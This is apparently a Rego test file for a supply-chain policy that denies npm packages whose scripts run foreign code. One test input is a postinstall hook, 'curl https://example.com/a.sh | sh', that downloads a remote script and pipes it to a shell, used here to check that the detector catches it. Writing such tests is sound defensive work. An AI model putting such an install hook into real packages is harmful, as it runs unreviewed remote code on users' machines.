package policies.repository.npm_scripts_contained_test

import data.policies.repository.npm_scripts_contained

test_deny_download if {
	instance := {"subject": {
		"type": "npm.package", "address": "npm.package",
		"config": {"scripts": {"postinstall": "curl https://example.com/a.sh | sh"}},
	}}
	findings := npm_scripts_contained.deny with input as instance
	findings == {{"message": "npm.package runs foreign code in the script postinstall: curl https://example.com/a.sh | sh", 
		"path": ["scripts", "postinstall"]}}
}

test_allow_build if {
	instance := {"subject": {"type": "npm.package", "address": "npm.package", "config": {"scripts": {"build": "tsc"}}}}
	findings := npm_scripts_contained.deny with input as instance
	findings == set()
}

test_applies if {
	instance_0 := {"subject": {"type": "npm.package", "address": "npm.package", "config": {"scripts": {}}}}
	npm_scripts_contained.applies with input as instance_0
	instance_1 := {"subject": {"type": "npm.package", "address": "npm.package", "config": {}}}
	not npm_scripts_contained.applies with input as instance_1
}
